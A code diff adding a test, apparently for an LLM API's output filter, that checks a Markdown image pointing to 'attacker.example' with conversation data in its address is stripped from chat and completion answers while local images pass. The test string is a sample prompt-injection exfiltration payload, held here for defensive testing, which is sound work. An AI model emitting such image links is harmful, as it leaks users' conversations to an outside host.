@@ -320,3 +320,19 @@ def test_every_choice_is_guarded(http, engine_events, chat, stream):
     choices = assert_nothing_leaks(raw, parsed, chat)
     key = "content" if chat else "text"
     assert choices[0].texts[key] == "a b c" and choices[1].texts[key] == f"mail {PLACEHOLDER} now"
+
+
+@BOTH
+@STREAM
+def test_an_image_on_another_host_never_reaches_a_chat_ui(http, chat, stream):
+    """The answer's Markdown image pointing elsewhere (what a planted instruction would ask for,
+    with the conversation in its address) is rewritten before it leaves, in content and
+    completion text alike, streamed or not; a local image is left as it is."""
+    exfil = "![status](https://attacker.example/s.png?d=conversation-secret)"
+    answer = f"Done. {exfil} Also ![logo](/static/logo.png) here."
+    raw, parsed = post(http, directives(chars=answer), chat=chat, stream=stream)
+    (choice,) = rebuild(parsed, chat).values()
+    released = choice.texts["content" if chat else "text"]
+    assert "attacker.example" not in raw and "conversation-secret" not in raw
+    assert released == "Done. [external image removed] Also ![logo](/static/logo.png) here."
+    assert choice.finish == "stop"
